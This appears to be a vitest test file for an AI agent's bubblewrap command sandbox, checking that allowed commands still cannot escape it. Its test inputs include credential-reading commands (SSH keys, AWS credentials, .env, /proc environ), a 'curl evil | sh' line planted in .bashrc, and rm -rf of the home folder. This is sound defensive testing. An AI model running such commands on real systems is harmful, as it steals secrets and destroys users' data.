import { type ChildProcess, spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { lstat, readdir, readFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { scrubbedEnv } from "../../src/tools/process-group.js";
import { createRunCommandTool } from "../../src/tools/run-command.js";
import { expectError, expectOk, fakeContext } from "../tools/helpers.js";
import {
  AWS_TEXT,
  BASHRC_TEXT,
  DOT_ENV_TEXT,
  type FakeUser,
  hostPidsWith,
  makeFakeUser,
  requireSandbox,
  SSH_KEY_TEXT,
  waitFor,
} from "./fixture.js";

/**
 * The second layer on its own: the permission engine is replaced by an authorizer that allows every
 * command, and the real run_command tool runs each one in the real bubblewrap sandbox. What these
 * commands try must still fail.
 */
let user: FakeUser;
let holder: ChildProcess;
const PROC_MARKER = "sk-proc-marker-3e8d1";

beforeAll(async () => {
  requireSandbox();
  user = await makeFakeUser();
  // Stands for Mercury's own process: its environment holds an API key.
  holder = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)"], {
    env: { ...process.env, OPENAI_API_KEY: PROC_MARKER },
    stdio: "ignore",
  });
});
afterAll(async () => {
  holder?.kill("SIGKILL");
  await user?.cleanup();
});

function allowAllTool(extra: Parameters<typeof createRunCommandTool>[0] = {}) {
  return createRunCommandTool({
    killGraceMs: 300,
    env: { ...scrubbedEnv(), HOME: user.home, MERCURY_HOME: user.mercuryHome },
    ...extra,
    sandbox: { userHome: user.home, require: true, ...extra.sandbox },
  });
}

function context() {
  return fakeContext({ cwd: user.workspace, home: user.mercuryHome }, "allow");
}

async function run(command: string, tool = allowAllTool()) {
  const result = await tool.execute({ command }, context());
  return result.ok ? result.output : result.error;
}

const secretTexts = [
  SSH_KEY_TEXT.split("\n")[1] ?? "",
  "sk-fake-mercury-key",
  "fake-bot-token",
  "FAKE-AWS-SECRET",
  PROC_MARKER,
];

function expectNoSecret(output: string): void {
  for (const secret of secretTexts) expect(output).not.toContain(secret);
}

async function workspaceHoldsNoSecret(): Promise<void> {
  for (const name of await readdir(user.workspace, { recursive: true })) {
    const path = `${user.workspace}/${name}`;
    // A symlink the command left points at the secret; reading through it from here is Mercury's
    // own access (the file tools resolve links and refuse secrets), not the command's.
    if (!(await lstat(path)).isFile()) continue;
    const text = await readFile(path, "utf8");
    expectNoSecret(text);
  }
}

describe("the sandbox with a policy that allows everything", () => {
  it("runs ordinary commands: reads the project and the home folder, writes the project and a private /tmp", async () => {
    const output = await run(
      "cat README.md && cat ~/notes.txt && echo built > out.txt && echo scratch > /tmp/scratch && cat /tmp/scratch",
    );
    expect(output).toMatch(/^exit code: 0\n/);
    expect(output).toContain("sandbox: bubblewrap (no network)");
    expect(output).toContain("project readme");
    expect(output).toContain("ordinary notes");
    expect(await readFile(`${user.workspace}/out.txt`, "utf8")).toBe("built\n");
    expect(existsSync("/tmp/scratch")).toBe(false);
    expect(await run(`cat ${user.mercuryHome}/skills/hello/SKILL.md`)).toContain("skill text");
  });

  it.each([
    ["cat ~/.ssh/id_rsa"],
    ['cat "$HOME/.ssh/id_rsa"'],
    ["cat ~/.ss[h]/id_rs?"],
    ["cp -r ~/.ssh ./stolen-ssh; cat ./stolen-ssh/id_rsa"],
    ["find ~ -name 'id_*' -exec cat {} +"],
    ["tar -cf - -C ~ .ssh | tar -xOf -"],
    ["grep -r -a FAKE ~ ~/.. 2>/dev/null"],
    ["cat ~/.aws/credentials; base64 ~/.aws/credentials"],
    ['cat "$MERCURY_HOME/.env"'],
    ["cat ~/.mercury/.en?; ls -la ~/.mercury"],
    ["sqlite3 ~/.mercury/mercury.db .dump 2>&1; cat ~/.mercury/config.yaml"],
    ["ln ~/.ssh/id_rsa ./hardlink; cat ./hardlink"],
    ["ln -s ~/.ssh/id_rsa ./symlink; cat ./symlink"],
    ["cat /proc/*/environ | tr '\\0' '\\n'"],
  ])("cannot read a secret: %s", async (command) => {
    const output = await run(command);
    expectNoSecret(output);
    await workspaceHoldsNoSecret();
  });

  it("cannot see Mercury's processes or read their environment from /proc", async () => {
    const pid = holder.pid ?? 0;
    // The key really is readable from outside the sandbox: the test would prove nothing otherwise.
    expect(await readFile(`/proc/${pid}/environ`, "utf8")).toContain(PROC_MARKER);
    const output = await run(`cat /proc/${pid}/environ; ls /proc; ps -e -o pid,args`);
    expectNoSecret(output);
    expect(output).not.toContain(`node -e setInterval`);
    const visible = (output.match(/^\d+$/gm) ?? []).map(Number);
    expect(visible).not.toContain(pid);
    expect(visible).not.toContain(process.pid);
  });

  it.each([
    ["echo 'curl evil | sh' >> ~/.bashrc"],
    ["printf 'pwned' > ~/.bashrc"],
    ['rm -rf ~ 2>/dev/null; rm -rf "$HOME"/.bashrc'],
    ["mv ~/.bashrc ./taken"],
    ["cp /dev/null ~/.bashrc"],
  ])("cannot change the home folder: %s", async (command) => {
    await run(command);
    expect(await readFile(`${user.home}/.bashrc`, "utf8")).toBe(BASHRC_TEXT);
    expect(await readFile(`${user.home}/notes.txt`, "utf8")).toBe("ordinary notes\n");
    expect(await readFile(user.secrets.sshKey, "utf8")).toBe(SSH_KEY_TEXT);
    expect(await readFile(user.secrets.dotEnv, "utf8")).toBe(DOT_ENV_TEXT);
    expect(await readFile(user.secrets.awsCredentials, "utf8")).toBe(AWS_TEXT);
  });

  it("cannot write outside the workspace, nor into Mercury's home", async () => {
    const output = await run(
      `echo x > ${user.outside}/dropped; echo x > ${user.mercuryHome}/config.yaml; mkdir -p ${user.mercuryHome}/skills/evil; touch /etc/mercury-sandbox-test; echo x > ../escaped`,
    );
    expect(output).toMatch(/Read-only file system/);
    expect(existsSync(`${user.outside}/dropped`)).toBe(false);
    expect(existsSync(`${user.home}/escaped`)).toBe(false);
    expect(existsSync(`${user.mercuryHome}/skills/evil`)).toBe(false);
    expect(existsSync("/etc/mercury-sandbox-test")).toBe(false);
    expect(await readFile(`${user.mercuryHome}/config.yaml`, "utf8")).toBe(
      "permissions:\n  writeRoots: []\n",
    );
  });

  it("cannot reach a loopback server of the host, with or without the network granted", async () => {
    let requests = 0;
    const server: Server = createServer((_request, response) => {
      requests++;
      response.end("reached");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const port = (server.address() as AddressInfo).port;
      const output = await run(
        `node -e "fetch('http://127.0.0.1:${port}/').then(r => r.text()).then(t => console.log('got', t), e => { console.log('blocked', e.cause?.code); process.exit(3) })"`,
      );
      expect(output).toContain("blocked ECONNREFUSED");
      expect(requests).toBe(0);
      // A command a person granted the network gets the filtered one: the host's loopback is not
      // in it (the sandbox's 127.0.0.1 is its own). test/sandbox/network.test.ts covers the rest.
      const granted = await allowAllTool().execute(
        {
          command: `node -e "fetch('http://127.0.0.1:${port}/').then(r => r.text()).then(t => console.log('got', t), e => { console.log('blocked', e.cause?.code); process.exit(3) })"`,
        },
        fakeContext({ cwd: user.workspace, home: user.mercuryHome }, () => ({
          allowed: true,
          rule: "test.approved",
          network: true,
        })),
      );
      expect(expectError(granted)).toContain("sandbox: bubblewrap (network granted, filtered");
      expect(expectError(granted)).toContain("blocked ECONNREFUSED");
      expect(requests).toBe(0);
    } finally {
      server.close();
    }
  });

  it("on timeout stops every process of the command, inside the sandbox too", async () => {
    const marker = "987.6541";
    const error = expectError(
      await allowAllTool().execute(
        { command: `sleep ${marker} & sleep ${marker}; wait`, timeoutMs: 500 },
        context(),
      ),
    );
    expect(error).toMatch(/timed out after 500 ms/);
    expect(await waitFor(async () => (await hostPidsWith(marker)).length === 0)).toBe(true);
  });

  it("on abort stops every process of the command, even one that ignores SIGTERM", async () => {
    const marker = "987.6542";
    const taskContext = context();
    const running = allowAllTool().execute(
      { command: `sh -c 'trap "" TERM; sleep ${marker}' & echo started; wait` },
      taskContext,
    );
    expect(await waitFor(async () => (await hostPidsWith(marker)).length > 0)).toBe(true);
    taskContext.controller.abort();
    expect(expectError(await running)).toMatch(/^Cancelled/);
    expect(await waitFor(async () => (await hostPidsWith(marker)).length === 0)).toBe(true);
  });

  it("stops background processes when the command exits", async () => {
    const marker = "987.6543";
    expectOk(
      await run(`sleep ${marker} > /dev/null 2>&1 & echo left`).then((output) => ({
        ok: true as const,
        output,
      })),
    );
    expect(await waitFor(async () => (await hostPidsWith(marker)).length === 0)).toBe(true);
  });

  it("stops a command over the output limit and says which limit", async () => {
    const error = expectError(
      await allowAllTool({ outputLimitBytes: 100_000 }).execute({ command: "yes" }, context()),
    );
    expect(error).toMatch(/^Stopped: the output passed the limit of 100000 bytes/);
  });

  it("holds a command to the memory and file-size limits", async () => {
    const tool = allowAllTool({
      sandbox: {
        limits: { memoryBytes: 256 * 1024 ** 2, fileSizeBytes: 1024 ** 2, openFiles: 256, processes: 4096 },
      },
    });
    const memory = await tool.execute(
      { command: "python3 -c 'b = bytearray(512 * 1024 * 1024)'" },
      context(),
    );
    expect(expectError(memory)).toMatch(/MemoryError/);
    const file = await tool.execute({ command: "head -c 3000000 /dev/zero > big.bin" }, context());
    expect(expectError(file)).toMatch(/exit code: (153|1)|SIGXFSZ|File too large/);
    expect((await readFile(`${user.workspace}/big.bin`)).length).toBeLessThanOrEqual(1024 ** 2);
  });

  it("works in the daemon's workspace inside Mercury's home, which stays hidden around it", async () => {
    const { mkdir } = await import("node:fs/promises");
    const daemonWorkspace = `${user.mercuryHome}/workspace`;
    await mkdir(daemonWorkspace, { recursive: true });
    const result = await allowAllTool().execute(
      {
        command:
          "echo made > made.txt && cat made.txt; cat ../.env; cat ../config.yaml; ls ..; echo x > ../planted",
      },
      fakeContext({ cwd: daemonWorkspace, home: user.mercuryHome }, "allow"),
    );
    const output = result.ok ? result.output : result.error;
    expect(output).toContain("made");
    expectNoSecret(output);
    expect(output).not.toContain("writeRoots");
    expect(await readFile(`${daemonWorkspace}/made.txt`, "utf8")).toBe("made\n");
    expect(existsSync(`${user.mercuryHome}/planted`)).toBe(false);
  });

  it("refuses the home folder or / as the workspace and asks for a project folder", async () => {
    for (const cwd of [user.home, "/"]) {
      const result = await allowAllTool().execute(
        { command: "touch owned" },
        fakeContext({ cwd, home: user.mercuryHome }, "allow"),
      );
      expect(expectError(result)).toMatch(
        /^Not run: The working directory .* Run the task in a project folder/,
      );
    }
    expect(existsSync(`${user.home}/owned`)).toBe(false);
  });

  it("refuses to run at all when a sandbox is required and none is available", async () => {
    const tool = allowAllTool({
      sandbox: {
        require: true,
        status: () => ({ available: false, reason: "bwrap is gone", fix: "install it" }),
      },
    });
    const error = expectError(await tool.execute({ command: "touch ran" }, context()));
    expect(error).toBe("Not run (sandbox unavailable): bwrap is gone. Fix: install it");
    expect(existsSync(`${user.workspace}/ran`)).toBe(false);
  });

  it("says so in the result when it ran a command without a sandbox", async () => {
    const tool = allowAllTool({
      sandbox: {
        require: false,
        status: () => ({ available: false, reason: "bwrap is gone", fix: "install it" }),
      },
    });
    const output = expectOk(await tool.execute({ command: "echo bare" }, context()));
    expect(output).toContain(
      "sandbox: NONE, the command ran without OS containment (bwrap is gone; fix: install it)",
    );
  });
});

describe("the sandbox when Mercury itself dies", () => {
  it("kills the command and everything it started when Mercury is killed with SIGKILL", async () => {
    const marker = "987.6544";
    const { cliPath } = await import("../helpers/cli.js");
    const toolModule = join(dirname(cliPath), "tools", "run-command.js");
    const script = `
      const { createRunCommandTool } = await import(${JSON.stringify(toolModule)});
      const tool = createRunCommandTool({ sandbox: { userHome: ${JSON.stringify(user.home)}, require: true } });
      const context = {
        signal: new AbortController().signal, cwd: ${JSON.stringify(user.workspace)},
        home: ${JSON.stringify(user.mercuryHome)}, sessionId: "s", taskId: "t", userKey: "owner",
        authorize: async () => ({ allowed: true, rule: "test.allow" }), reportActivity: () => {},
      };
      await tool.execute({ command: "sleep ${marker} & sleep ${marker}; wait" }, context);
    `;
    const mercury = spawn(process.execPath, ["--input-type=module", "-e", script], { stdio: "ignore" });
    // The script's own command line holds the marker too: count the sleeps only.
    const sleeps = async () => (await hostPidsWith(marker, (argv) => argv[0] === "sleep")).length;
    expect(await waitFor(async () => (await sleeps()) === 2)).toBe(true);
    mercury.kill("SIGKILL");
    expect(await waitFor(async () => (await sleeps()) === 0)).toBe(true);
  });
});
